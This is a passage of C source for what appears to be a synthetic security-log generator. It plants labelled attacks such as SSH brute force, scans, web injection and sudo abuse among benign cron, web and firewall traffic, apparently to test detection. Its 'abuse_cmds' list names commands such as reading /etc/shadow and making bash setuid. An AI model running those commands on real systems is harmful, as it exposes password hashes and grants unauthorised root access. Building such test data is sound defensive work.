        u->ua = (uint8_t)rng_below(&g->rng, NELEM(attack_uas));
    u->aux = (uint32_t)rng_below(&g->rng, 9000) + 1000;
    u->truth = ti;
    g->truth[ti].ip1 = u->src;
    g->truth[ti].host = u->host;
    t = window_start(g, n * gap * 2);
    for (int64_t i = 0; i < n; i++) {
        unsigned what = base + (unsigned)rng_below(&g->rng, npaths);

        if (type == AT_SCANNER && u->ua == 2)
            what = WEB_SCAN + (unsigned)NELEM(scan_paths) - 2; /* masscan only fetches / */
        add(g, t, K_WEB, uid, what, (uint32_t)i);
        t += gap / 2 + (int64_t)rng_below(&g->rng, (uint64_t)gap);
    }
}

static const char *const abuse_cmds[] = {
    "/usr/bin/cat /etc/shadow", "/bin/bash",          "/usr/bin/su -",
    "/usr/sbin/visudo",         "/usr/bin/passwd root", "/usr/bin/chmod 4755 /bin/bash",
    "/usr/bin/vi /etc/sudoers",
};

/*
 * The entity of a sudo abuse is (user, host), so each instance takes a pair
 * no other instance has: 4 non-admins on 6 hosts, at most 24 instances.
 */
static void plan_sudo_abuse(struct gen *g)
{
    static const unsigned abusers[] = {3, 4, 5, 7}; /* non-admins: dave, erin, frank, grace */
    static const uint8_t hosts[] = {H_APP01, H_APP02, H_DB01, H_BASTION, H_WEB01, H_WEB02};
    int ti;
    uint32_t uid;
    struct unit *u;
    int64_t n, t;
    unsigned pair;

    if (g->nsudo_pairs == 0) {
        for (unsigned i = 0; i < NELEM(g->sudo_pairs); i++)
            g->sudo_pairs[i] = (uint8_t)i;
        for (size_t i = NELEM(g->sudo_pairs) - 1; i > 0; i--) {
            size_t j = (size_t)rng_below(&g->rng, i + 1);
            uint8_t tmp = g->sudo_pairs[i];
            g->sudo_pairs[i] = g->sudo_pairs[j];
            g->sudo_pairs[j] = tmp;
        }
    }
    if (g->nsudo_pairs >= NELEM(g->sudo_pairs))
        return;
    pair = g->sudo_pairs[g->nsudo_pairs++];
    ti = new_truth(g, AT_SUDO);
    uid = new_unit(g);
    u = &g->units[uid];
    n = rng_range(&g->rng, 3, 8);
    t = window_start(g, n * 300 * US);
    u->user = (uint8_t)abusers[pair % NELEM(abusers)];
    u->host = hosts[pair / NELEM(abusers)];
    u->aux = (uint32_t)rng_below(&g->rng, 4); /* pts number */
    u->truth = ti;
    g->truth[ti].user = u->user;
    g->truth[ti].host = u->host;
    for (int64_t i = 0; i < n; i++) {
        unsigned cmd = (unsigned)rng_below(&g->rng, NELEM(abuse_cmds));

        if (g->sudo_guess || rng_below(&g->rng, 2)) {
            /* Three wrong passwords: one PAM failure line, then sudo's summary. */
            add(g, t, K_SUDO_PAM_FAIL, uid, 0, 0);
            t += rng_range(&g->rng, 6 * US, 20 * US);
            add(g, t, K_SUDO_INCORRECT, uid, cmd, 3);
        } else {
            add(g, t, K_SUDO_NOT_SUDOERS, uid, cmd, 0);
        }
        t += rng_range(&g->rng, 20 * US, 300 * US);
    }
}

/* Instances of each attack type: one per 200k records, at least one. */
static void plan_attacks(struct gen *g)
{
    uint64_t n = (uint64_t)((double)g->nrec / 200000.0 * g->attack_scale + 0.5);

    if (n < 1)
        n = 1;
    if (n > 40)
        n = 40;
    if (g->attack_scale <= 0)
        return;
    for (uint64_t i = 0; i < n; i++) {
        plan_ssh_bruteforce(g, 0);
        plan_ssh_bruteforce(g, 1);
        plan_scan_vertical(g);
        plan_scan_horizontal(g);
        plan_worm(g);
        plan_beacon(g);
        plan_web_attack(g, AT_SQLI);
        plan_web_attack(g, AT_TRAV);
        plan_web_attack(g, AT_CMDI);
        plan_web_attack(g, AT_SCANNER);
        plan_sudo_abuse(g);
    }
}

/* --- benign planning --- */

static void plan_ssh_session(struct gen *g)
{
    uint32_t uid = new_unit(g);
    struct unit *u = &g->units[uid];
    static const uint8_t hosts[] = {H_BASTION, H_BASTION, H_BASTION, H_APP01, H_APP02,
                                    H_DB01,    H_WEB01,   H_WEB02};
    int64_t t = benign_time(g), dur;
    int pw;

    u->user = (uint8_t)rng_below(&g->rng, USER_BENIGN_N);
    u->host = u->user == USER_DEPLOY ? (uint8_t)(H_APP01 + rng_below(&g->rng, 2))
                                     : hosts[rng_below(&g->rng, NELEM(hosts))];
    u->src = user_ws_ip(u->user);
    u->pid = new_pid(g);
    u->port = (uint16_t)rng_range(&g->rng, 32768, 60999);
    pw = u->user != USER_DEPLOY && rng_below(&g->rng, 10) == 0;
    if (pw && rng_below(&g->rng, 8) == 0) {
        /* A typo first: a single failure from a known address, then success. */
        add(g, t, K_SSH_PAM_FAIL_USER, uid, u->user, 0);
        t += rng_range(&g->rng, 1800000, 3000000);
        add(g, t, K_SSH_FAILED_VALID, uid, u->user, 0);
        t += rng_range(&g->rng, 2 * US, 8 * US);
    }
    add(g, t, pw ? K_SSH_ACCEPT_PW : K_SSH_ACCEPT_PK, uid, u->user, 0);
    t += rng_range(&g->rng, 5000, 40000);
    add(g, t, K_SSH_SESS_OPEN, uid, u->user, 0);
    add(g, t + 3000, K_LOGIND_NEW, uid, 0, 0);
    add(g, t + 9000, K_SD_SESSION_SCOPE, uid, 0, 0);
    dur = u->user == USER_DEPLOY ? rng_range(&g->rng, 3 * US, 90 * US)
                                 : rng_range(&g->rng, 60 * US, 4 * 3600 * US);
    t += dur;
    add(g, t, K_SSH_RECV_DISC, uid, 0, 0);
    add(g, t + 200, K_SSH_DISCONNECTED, uid, u->user, 0);
    add(g, t + 400, K_SSH_SESS_CLOSE, uid, u->user, 0);
    add(g, t + 2000, K_LOGIND_LOGOUT, uid, 0, 0);
    add(g, t + 12000, K_LOGIND_REMOVED, uid, 0, 0);
}

struct cron_job {
    const char *user;
    unsigned uid;
    const char *cmd;
    int every_min;  /* period in minutes */
    int at_min;     /* offset in minutes within the period (from midnight UTC for daily) */
    unsigned hosts; /* bit mask of enum host */
};

#define CRON_ALL ((1u << H_BASTION) | (1u << H_APP01) | (1u << H_APP02) | (1u << H_DB01) | \
                  (1u << H_WEB01) | (1u << H_WEB02))
#define CRON_WEB ((1u << H_WEB01) | (1u << H_WEB02))

static const struct cron_job cron_jobs[] = {
    {"root", 0, "/usr/local/bin/textfile-collector.sh > /dev/null 2>&1", 1, 0, CRON_ALL},
    {"root", 0, "   cd / && run-parts --report /etc/cron.hourly", 60, 17, CRON_ALL},
    {"root", 0, "command -v debian-sa1 > /dev/null && debian-sa1 1 1", 10, 5, CRON_ALL},
    {"root", 0,
     "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then "
     "/usr/lib/php/sessionclean; fi",
     30, 9, CRON_WEB},
    {"www-data", 33, "php -f /var/www/shop/cron.php > /dev/null 2>&1", 5, 0, CRON_WEB},
    {"postgres", 114, "/usr/local/bin/pg_backup.sh > /dev/null 2>&1", 1440, 150, 1u << H_DB01},
    {"root", 0,
     "test -x /etc/cron.daily/popularity-contest && /etc/cron.daily/popularity-contest --crond",
     1440, 407, CRON_ALL},
};

static void plan_cron_run(struct gen *g, unsigned job, unsigned host, int64_t t)
{
    uint32_t uid = new_unit(g);
    struct unit *u = &g->units[uid];

    u->host = (uint8_t)host;
    u->pid = new_pid(g);
    u->aux = job;
    t += rng_range(&g->rng, 1000, 900000); /* cron starts jobs just after :00 */
    add(g, t, K_CRON_OPEN, uid, job, 0);
    add(g, t + 300, K_CRON_CMD, uid, job, 0);
    add(g, t + rng_range(&g->rng, 2000, 40000), K_CRON_CLOSE, uid, job, 0);
}

/*
 * Counts the scheduled runs in the span (total 0), or plans `want` of the
 * `total` of them, chosen uniformly without replacement.
 */
static uint64_t cron_slots(struct gen *g, uint64_t want, uint64_t total)
{
    uint64_t n = 0, picked = 0;

    for (unsigned j = 0; j < NELEM(cron_jobs); j++) {
        int64_t period = (int64_t)cron_jobs[j].every_min * 60 * US;
        int64_t off = (int64_t)cron_jobs[j].at_min * 60 * US;
        int64_t first = g->start_us - ((g->start_us % period) + period) % period + off;

        for (unsigned h = 0; h < H_N; h++) {
            if (!(cron_jobs[j].hosts & (1u << h)))
                continue;
            for (int64_t t = first; t < g->start_us + g->span_us; t += period) {
                if (t < g->start_us)
                    continue;
                /* Selection sampling (Knuth's algorithm S): `want` distinct runs. */
                if (total && rng_below(&g->rng, total - n) < want - picked) {
                    plan_cron_run(g, j, h, t);
                    picked++;
                }
                n++;
            }
        }
    }
    return n;
}

/*
 * Cron follows its schedule: each (job, host, minute) runs at most once, so
 * the cron share is a sample of the real schedule, never a duplicate run.
 * Returns the lines planned.
 */
static uint64_t plan_cron(struct gen *g, uint64_t want_lines)
{
    uint64_t total = cron_slots(g, 0, 0), want = want_lines / 3, before = g->nrecs;

    if (want > total)
        want = total;
    if (want)
        cron_slots(g, want, total);
    return g->nrecs - before;
}

static const char *const admin_cmds[] = {
    "/usr/bin/apt update",
    "/usr/bin/apt upgrade -y",
    "/usr/bin/systemctl restart nginx",
    "/usr/bin/systemctl status postgresql",
    "/usr/bin/journalctl -u ssh --since today",
    "/usr/bin/tail -n 100 /var/log/syslog",
    "/usr/sbin/ufw status verbose",
    "/usr/bin/docker ps",
    "/usr/bin/vim /etc/nginx/sites-available/shop",
    "/usr/bin/du -sh /var/lib/postgresql",
    "/usr/sbin/nginx -t",
    "/usr/bin/systemctl reload nginx",
    "/usr/bin/ls -la /var/log/nginx",
    "/usr/bin/certbot renew --dry-run",
};

static void plan_sudo(struct gen *g)
{
    static const uint8_t hosts[] = {H_BASTION, H_APP01, H_APP02, H_DB01, H_WEB01, H_WEB02};
    uint32_t uid = new_unit(g);
    struct unit *u = &g->units[uid];
    int64_t t = benign_time(g);
    unsigned cmd = (unsigned)rng_below(&g->rng, NELEM(admin_cmds));

    u->user = (uint8_t)rng_below(&g->rng, 3); /* alice, bob, carol */
    u->host = hosts[rng_below(&g->rng, NELEM(hosts))];
    u->aux = (uint32_t)rng_below(&g->rng, 6);
    if (rng_below(&g->rng, 30) == 0) {
        add(g, t, K_SUDO_PAM_FAIL, uid, 0, 0); /* one mistyped password */
        t += rng_range(&g->rng, 3 * US, 9 * US);
    }
    add(g, t, K_SUDO_CMD, uid, cmd, 0);
    add(g, t + 2000, K_SUDO_OPEN, uid, cmd, 0);
    add(g, t + rng_range(&g->rng, 50000, 120 * US), K_SUDO_CLOSE, uid, cmd, 0);
}

static void plan_fw(struct gen *g)
{
    uint32_t uid = new_unit(g);
    struct unit *u = &g->units[uid];
    int64_t t = benign_time(g);
    uint64_t r = rng_below(&g->rng, 100);

    u->host = H_FW01;
    if (r < 35) {
        /* Office browsing that the edge firewall logs on the way out. */
        static const uint16_t ports[] = {443, 443, 443, 443, 80, 53, 123, 993};
        u->src = ip4(10, 0, 10, 20 + (unsigned)rng_below(&g->rng, 200));
        u->dst = benign_inet_ip(&g->rng);
        add(g, t, K_NF, uid, NF_OUT_ALLOW, ports[rng_below(&g->rng, NELEM(ports))]);
        return;
    }
    u->src = benign_inet_ip(&g->rng);
    u->dst = ip4(10, 0, 1, 10 + (unsigned)rng_below(&g->rng, 40));
    if (r < 80) {
        static const uint16_t ports[] = {22, 23, 23, 445, 3389, 8080, 1433, 5900, 6379,
                                         2323, 8443, 81, 7547, 5555, 8088, 9200};
        add(g, t, K_NF, uid, NF_IN_NOISE_TCP, ports[rng_below(&g->rng, NELEM(ports))]);
    } else if (r < 93) {
        static const uint16_t ports[] = {53, 123, 161, 1900, 5060, 11211, 137, 500};
        add(g, t, K_NF, uid, NF_IN_NOISE_UDP, ports[rng_below(&g->rng, NELEM(ports))]);
    } else {
        add(g, t, K_NF, uid, NF_IN_NOISE_ICMP, 0);
    }
}

struct sd_job {
    const char *unit;
    const char *desc;
};

static const struct sd_job sd_jobs[] = {
    {"apt-daily.service", "Daily apt download activities"},
    {"apt-daily-upgrade.service", "Daily apt upgrade and clean activities"},
    {"logrotate.service", "Rotate log files"},
    {"man-db.service", "Daily man-db regeneration"},
    {"systemd-tmpfiles-clean.service", "Cleanup of Temporary Directories"},
    {"phpsessionclean.service", "Clean php session files"},
    {"e2scrub_all.service", "Online ext4 Metadata Check for All Filesystems"},
    {"certbot.service", "Certbot"},
    {"sysstat-collect.service", "system activity accounting tool"},
    {"fstrim.service", "Discard unused blocks on filesystems from /etc/fstab"},
};

static void plan_systemd(struct gen *g)
{
    uint32_t uid = new_unit(g);
    struct unit *u = &g->units[uid];
    int64_t t = benign_time(g);
    unsigned j = (unsigned)rng_below(&g->rng, NELEM(sd_jobs));

    u->host = (uint8_t)rng_below(&g->rng, H_FW01);
    add(g, t, K_SD_STARTING, uid, j, 0);
    t += rng_range(&g->rng, 20000, 30 * US);
    add(g, t, K_SD_DEACTIVATED, uid, j, 0);
    add(g, t + 100, K_SD_FINISHED, uid, j, 0);
    if (rng_below(&g->rng, 2))
        add(g, t + 200, K_SD_CONSUMED, uid, j, 0);
}

/* Web pages (rec.a below 100) and assets (100 + index). */
enum page {
    P_HOME,
    P_CATALOG,
    P_PRODUCT,
    P_SEARCH,
    P_BLOG,
    P_CART,
    P_LOGIN,
    P_API,
    P_ABOUT,
    P_ROBOTS,
    P_SITEMAP,
    P_REDIRECT,
    P_N,
};

static const char *const assets[] = {
    "/static/css/main.3f9a1c2e.css", "/static/js/app.7b1e44d0.js",
    "/static/js/vendor.c0ffee12.js", "/static/img/logo.svg",
    "/static/img/products/",         "/static/fonts/inter-var.woff2",
    "/favicon.ico",
};

static const char *const browser_uas[] = {
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/137.0.0.0 Safari/537.36"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/137.0.0.0 Safari/537.36"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/137.0.0.0 Safari/537.36 Edg/137.0.0.0"),
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:139.0) Gecko/20100101 Firefox/139.0",
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/18.5 Safari/605.1.15"),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/137.0.0.0 Safari/537.36"),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/137.0.0.0 Safari/537.36"),
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:139.0) Gecko/20100101 Firefox/139.0",
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
     "Gecko) Version/18.5 Mobile/15E148 Safari/604.1"),
    ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/137.0.0.0 Mobile Safari/537.36"),
    ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/137.0.0.0 Mobile Safari/537.36"),
    ("Mozilla/5.0 (iPad; CPU OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/18.5 Mobile/15E148 Safari/604.1"),
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
};

static void plan_web(struct gen *g)
{
    static const uint8_t weights[P_N] = {14, 8, 30, 10, 8, 5, 3, 10, 2, 1, 1, 2};
    uint32_t uid = new_unit(g);
    struct unit *u = &g->units[uid];
    int64_t t = benign_time(g);
    unsigned w = (unsigned)rng_below(&g->rng, 94), page = 0, nassets = 0;
    int internal = rng_below(&g->rng, 10) < 3;

    while (page < P_N - 1 && w >= weights[page])
        w -= weights[page++];
    u->src = internal ? ip4(10, 0, 10, 20 + (unsigned)rng_below(&g->rng, 300))
                      : benign_inet_ip(&g->rng);
    u->host = rng_below(&g->rng, 2) ? H_WEB01 : H_WEB02;
    u->ua = (uint8_t)rng_below(&g->rng, UA_BOTS_FROM);
    if (!internal && rng_below(&g->rng, 25) == 0)
        u->ua = (uint8_t)(UA_BOTS_FROM + rng_below(&g->rng, 2)); /* crawlers */
    u->http2 = rng_below(&g->rng, 10) < 6;
    u->aux = (uint32_t)rng_below(&g->rng, 1u << 30);
    if (page == P_ROBOTS || page == P_SITEMAP)
        u->ua = (uint8_t)(UA_BOTS_FROM + rng_below(&g->rng, 2));
    add(g, t, K_WEB, uid, page, 0);
    if (u->ua < UA_BOTS_FROM && page <= P_ABOUT && page != P_API && page != P_LOGIN)
        nassets = (unsigned)rng_below(&g->rng, 7);
    for (unsigned i = 0; i < nassets; i++) {
        t += rng_range(&g->rng, 5000, 400000);
        add(g, t, K_WEB, uid, 100 + (unsigned)rng_below(&g->rng, NELEM(assets)), page);
    }
}

/*
 * --ids-noise: what a network IDS reports all day and nobody calls an
 * incident — policy and informational signatures (package managers, file
 * sharing, external IP lookups, cleartext logins), from many office
 * workstations and a few internet hosts, relayed through syslog.  Names of
 * our own, in the style of a public rule set.
 */
struct ids_sig {
    unsigned sid, severity, port;
    const char *proto, *name, *category;
};

static const struct ids_sig ids_sigs[] = {
    {9100001, 3, 80, "TCP", "POLICY Package manager user agent outbound", "Not Suspicious Traffic"},
    {9100002, 3, 53, "UDP", "INFO DNS query for a .cloud domain", "Potentially Bad Traffic"},
    {9100003, 3, 443, "TCP", "POLICY File sharing service in use",
     "Potential Corporate Privacy Violation"},
    {9100004, 3, 443, "TCP", "INFO External IP address lookup",
     "Device Retrieving External IP Address Detected"},
    {9100005, 2, 8080, "TCP", "POLICY Cleartext HTTP basic authentication",
     "Potential Corporate Privacy Violation"},
};

static void plan_ids(struct gen *g)
{
    uint32_t uid = new_unit(g);
    struct unit *u = &g->units[uid];
    int64_t t = benign_time(g);
    int inbound = rng_below(&g->rng, 10) < 2;

    u->aux = (uint32_t)rng_below(&g->rng, NELEM(ids_sigs));
    u->src = inbound ? benign_inet_ip(&g->rng)
                     : ip4(10, 0, 10, 20 + (unsigned)rng_below(&g->rng, 300));
    u->dst = inbound ? ip4(10, 0, 1, 10 + (unsigned)rng_below(&g->rng, 20))
                     : benign_inet_ip(&g->rng);
    u->port = (uint16_t)(32768 + rng_below(&g->rng, 28000));
    add(g, t, K_IDS, uid, 0, 0);
}

static void plan_benign(struct gen *g)
{
    double p[C_N], sum = 0;

    for (int c = 0; c < C_N; c++) {
        p[c] = g->mix[c] / cat_unit_lines[c];
        sum += p[c];
    }
    if (sum <= 0) {
        fprintf(stderr, "hikeshi-gen: --mix leaves no benign category\n");
        exit(2);
    }
    /* Cron first, from its schedule; the other categories share the rest. */
    {
        uint64_t room = g->nrec - g->nrecs;
        double lines_w = 0, share;

        for (int c = 0; c < C_N; c++)
            lines_w += g->mix[c];
        share = lines_w > 0 ? g->mix[C_CRON] / lines_w : 0;
        plan_cron(g, (uint64_t)((double)room * share));
        sum -= p[C_CRON];
        p[C_CRON] = 0;
        if (sum <= 0 && g->nrecs < g->nrec) {
            fprintf(stderr, "hikeshi-gen: --mix: cron alone cannot fill the records\n");
            exit(2);
        }
    }
    while (g->nrecs < g->nrec && !g->overflow) {
        double x;
        int c = 0;

        /* An IDS alert is one line, the other units ~2.6 on average (cron
         * aside, measured): a unit is an alert
         * with the probability that makes ids_pct % of the lines. */
        if (g->ids_pct > 0 &&
            rng_unit(&g->rng) * (g->ids_pct + (100 - g->ids_pct) / 2.6) < g->ids_pct) {
            plan_ids(g);
            continue;
        }
        x = rng_unit(&g->rng) * sum;
        while (c < C_N - 1 && x >= p[c])
            x -= p[c++];
        switch (c) {
        case C_WEB: plan_web(g); break;
        case C_SSH: plan_ssh_session(g); break;
        case C_SUDO: plan_sudo(g); break;
        case C_FW: plan_fw(g); break;
        default: plan_systemd(g); break;
        }
    }
}

/* --- output --- */

struct out {
    int fd;
    char *buf;
    size_t len, cap;
    uint64_t bytes;
};

static void out_flush(struct out *o)
{
    size_t off = 0;

    while (off < o->len) {
        ssize_t n = write(o->fd, o->buf + off, o->len - off);
        if (n < 0 && errno == EINTR)
            continue;
        if (n <= 0) {
            perror("hikeshi-gen: write");
            exit(1);
        }
        off += (size_t)n;
    }
    o->bytes += o->len;
    o->len = 0;
}

/* Callers make room for a whole line first (out_room), so appends need no checks. */
static void out_room(struct out *o)
{
    if (o->len + 4096 > o->cap)
        out_flush(o);
}

static void o_mem(struct out *o, const char *s, size_t n)
{
    memcpy(o->buf + o->len, s, n);
    o->len += n;
}

static void o_s(struct out *o, const char *s)
{
    o_mem(o, s, strlen(s));
}

static void o_c(struct out *o, char c)
{
    o->buf[o->len++] = c;
}

static void o_u(struct out *o, uint64_t v)
{
    char tmp[24];
    int n = 0;

    do {
        tmp[n++] = (char)('0' + v % 10);
        v /= 10;
    } while (v);
    while (n)
        o->buf[o->len++] = tmp[--n];
}

static void o_u0(struct out *o, uint64_t v, int width)
{
    char tmp[24];
    int n = 0;

    do {
        tmp[n++] = (char)('0' + v % 10);
        v /= 10;
    } while (v);
    while (n < width)
        tmp[n++] = '0';
    while (n)
        o->buf[o->len++] = tmp[--n];
}

static void o_hex(struct out *o, uint64_t v, int width)
{
    static const char hx[] = "0123456789abcdef";

    for (int i = width - 1; i >= 0; i--)
        o_c(o, hx[(v >> (4 * i)) & 15]);
}

static void o_ip(struct out *o, uint32_t ip)
{
    o_u(o, ip >> 24);
    o_c(o, '.');
    o_u(o, (ip >> 16) & 255);
    o_c(o, '.');
    o_u(o, (ip >> 8) & 255);
    o_c(o, '.');
    o_u(o, ip & 255);
}

/* Per-second caches of the two timestamp forms. */
struct tcache {
    int64_t sec;
    char syslog[16]; /* "Jun  1 00:00:00" */
    char clf[27];    /* "01/Jun/2026:00:00:00 +0000" */
};

static void tcache_set(struct tcache *c, int64_t sec)
{
    static const char *const mon[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                      "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};
    char iso[TIME_ISO_LEN];
    int m, d;

    if (c->sec == sec)
        return;
    c->sec = sec;
    time_format_iso(sec * US, iso, sizeof(iso)); /* YYYY-MM-DDTHH:MM:SS */
    m = (iso[5] - '0') * 10 + (iso[6] - '0');
    d = (iso[8] - '0') * 10 + (iso[9] - '0');
    memcpy(c->syslog, mon[m - 1], 3);
    c->syslog[3] = ' ';
    c->syslog[4] = d < 10 ? ' ' : iso[8];
    c->syslog[5] = iso[9];
    c->syslog[6] = ' ';
    memcpy(c->syslog + 7, iso + 11, 8);
    c->syslog[15] = '\0';
    memcpy(c->clf, iso + 8, 2);
    c->clf[2] = '/';
    memcpy(c->clf + 3, mon[m - 1], 3);
    c->clf[6] = '/';
    memcpy(c->clf + 7, iso, 4);
    c->clf[11] = ':';
    memcpy(c->clf + 12, iso + 11, 8);
    memcpy(c->clf + 20, " +0000", 7);
}

enum prog { PR_SSHD, PR_SUDO, PR_KERNEL, PR_CRON, PR_SYSTEMD, PR_LOGIND, PR_NGINX };

static const char *const prog_names[] = {"sshd", "sudo", "kernel", "CRON", "systemd",
                                         "systemd-logind", "nginx"};

static void header(struct out *o, const struct gen *g, const struct tcache *tc, int pri,
                   enum prog p, const struct unit *u, uint32_t pid)
{
    if (g->fmt == FMT_SYSLOG) {
        o_c(o, '<');
        o_u(o, (uint64_t)pri);
        o_c(o, '>');
    }
    o_mem(o, tc->syslog, 15);
    o_c(o, ' ');
    o_s(o, host_names[u->host]);
    o_c(o, ' ');
    o_s(o, prog_names[p]);
    if (pid) {
        o_c(o, '[');
        o_u(o, pid);
        o_c(o, ']');
    }
    o_mem(o, ": ", 2);
}

/* PRI = facility * 8 + severity. */
#define PRI_AUTH_INFO (4 * 8 + 6)
#define PRI_AUTHPRIV_NOTICE (10 * 8 + 5)
#define PRI_AUTHPRIV_INFO (10 * 8 + 6)
#define PRI_AUTHPRIV_ALERT (10 * 8 + 1)
#define PRI_KERN_WARNING (0 * 8 + 4)
#define PRI_CRON_INFO (9 * 8 + 6)
#define PRI_DAEMON_INFO (3 * 8 + 6)
#define PRI_LOCAL7_INFO (23 * 8 + 6)

static const char b64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

static const char *login_name(enum kind k, unsigned a)
{
    switch (k) {
    case K_SSH_INVALID_USER:
    case K_SSH_FAILED_INVALID:
    case K_SSH_CLOSED_INVALID:
    case K_SSH_PAM_MORE_NOUSER:
    case K_SSH_CHECKPASS_UNKNOWN:
    case K_SSH_PAM_FAIL_NOUSER:
        return bf_names[a % NELEM(bf_names)];
    default:
        return users[a % NELEM(users)].name;
    }
}

static void render_sshd(struct out *o, const struct rec *r, const struct unit *u)
{
    const char *name = login_name((enum kind)r->kind, r->a);

    switch ((enum kind)r->kind) {
    case K_SSH_ACCEPT_PK: {
        /* A fixed key per user, as ~/.ssh/authorized_keys would have. */
        uint64_t s = 0x5eed0000ULL + r->a;
        o_s(o, "Accepted publickey for ");
        o_s(o, name);
        o_s(o, " from ");
        o_ip(o, u->src);
        o_s(o, " port ");
        o_u(o, u->port);
        o_s(o, r->a % 3 == 1 ? " ssh2: RSA SHA256:" : " ssh2: ED25519 SHA256:");
        for (int i = 0; i < 43; i++)
            o_c(o, b64[lr_below(&s, 64)]);
        return;
    }
    case K_SSH_ACCEPT_PW:
        o_s(o, "Accepted password for ");
        o_s(o, name);
        o_s(o, " from ");
        o_ip(o, u->src);
        o_s(o, " port ");
        o_u(o, u->port);
        o_s(o, " ssh2");
        return;
    case K_SSH_SESS_OPEN:
        o_s(o, "pam_unix(sshd:session): session opened for user ");
        o_s(o, name);
        o_s(o, "(uid=");
        o_u(o, users[r->a].uid);
        o_s(o, ") by (uid=0)");
        return;
    case K_SSH_RECV_DISC:
        o_s(o, "Received disconnect from ");
        o_ip(o, u->src);
        o_s(o, " port ");
        o_u(o, u->port);
        o_s(o, ":11: disconnected by user");
        return;
    case K_SSH_DISCONNECTED:
        o_s(o, "Disconnected from user ");
        o_s(o, name);
        o_c(o, ' ');
        o_ip(o, u->src);
        o_s(o, " port ");
        o_u(o, u->port);
        return;
    case K_SSH_SESS_CLOSE:
        o_s(o, "pam_unix(sshd:session): session closed for user ");
        o_s(o, name);
        return;
    case K_SSH_PAM_FAIL_USER:
    case K_SSH_PAM_FAIL_NOUSER:
        o_s(o, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
               "ruser= rhost=");
        o_ip(o, u->src);
        if (r->kind == K_SSH_PAM_FAIL_USER) {
            o_s(o, "  user=");
            o_s(o, name);
        }
        return;
    case K_SSH_CHECKPASS_UNKNOWN:
        o_s(o, "pam_unix(sshd:auth): check pass; user unknown");
        return;
    case K_SSH_INVALID_USER:
        o_s(o, "Invalid user ");
        o_s(o, name);
        o_s(o, " from ");
        o_ip(o, u->src);
        o_s(o, " port ");
        o_u(o, u->port);
        return;
    case K_SSH_FAILED_VALID:
    case K_SSH_FAILED_INVALID:
        o_s(o, r->kind == K_SSH_FAILED_VALID ? "Failed password for " : "Failed password for invalid user ");
        o_s(o, name);
        o_s(o, " from ");
        o_ip(o, u->src);
        o_s(o, " port ");
        o_u(o, u->port);
        o_s(o, " ssh2");
        return;
    case K_SSH_CLOSED_INVALID:
    case K_SSH_CLOSED_AUTH:
        o_s(o, r->kind == K_SSH_CLOSED_AUTH ? "Connection closed by authenticating user "
                                            : "Connection closed by invalid user ");
        o_s(o, name);
        o_c(o, ' ');
        o_ip(o, u->src);
        o_s(o, " port ");
        o_u(o, u->port);
        o_s(o, " [preauth]");
        return;
    case K_SSH_PAM_MORE_USER:
    case K_SSH_PAM_MORE_NOUSER:
        o_s(o, "PAM ");
        o_u(o, r->b);
        o_s(o, " more authentication failure");
        if (r->b > 1)
            o_c(o, 's');
        o_s(o, "; logname= uid=0 euid=0 tty=ssh ruser= rhost=");
        o_ip(o, u->src);
        if (r->kind == K_SSH_PAM_MORE_USER) {
            o_s(o, "  user=");
            o_s(o, name);
        }
        return;
    default:
        return;
    }
}

static int sshd_pri(enum kind k)
{
    switch (k) {
    case K_SSH_SESS_OPEN:
    case K_SSH_SESS_CLOSE:
    case K_SSH_CHECKPASS_UNKNOWN:
        return PRI_AUTHPRIV_INFO;
    case K_SSH_PAM_FAIL_USER:
    case K_SSH_PAM_FAIL_NOUSER:
    case K_SSH_PAM_MORE_USER:
    case K_SSH_PAM_MORE_NOUSER:
        return PRI_AUTHPRIV_NOTICE;
    default:
        return PRI_AUTH_INFO;
    }
}

/* "TTY=pts/N ; PWD=... ; USER=root ; COMMAND=..." shared by sudo's lines. */
static void sudo_tail(struct out *o, const struct unit *u, const char *cmd, unsigned pwd_pick)
{
    static const char *const pwds[] = {"/etc/nginx", "/var/log", "/srv/shop"};
    const char *user = users[u->user].name;

    o_s(o, "TTY=pts/");
    o_u(o, u->aux);
    o_s(o, " ; PWD=");
    if (pwd_pick < 3) {
        o_s(o, pwds[pwd_pick]);
    } else {
        o_s(o, "/home/");
        o_s(o, user);
    }
    o_s(o, " ; USER=root ; COMMAND=");
    o_s(o, cmd);
}

/* sudo logs "%8s : ..." after its tag. */
static void sudo_user(struct out *o, const char *user)
{
    size_t n = strlen(user);

    for (size_t i = n; i < 8; i++)
        o_c(o, ' ');
    o_s(o, user);
    o_s(o, " : ");
}

static void render_sudo(struct out *o, const struct gen *g, const struct tcache *tc,
                        const struct rec *r, const struct unit *u)
{
    const char *user = users[u->user].name;
    /* The working directory is a property of the sudo invocation (the unit). */
    unsigned pwd_pick = (unsigned)((u->aux * 7 + u->host) % 6);

    switch ((enum kind)r->kind) {
    case K_SUDO_CMD:
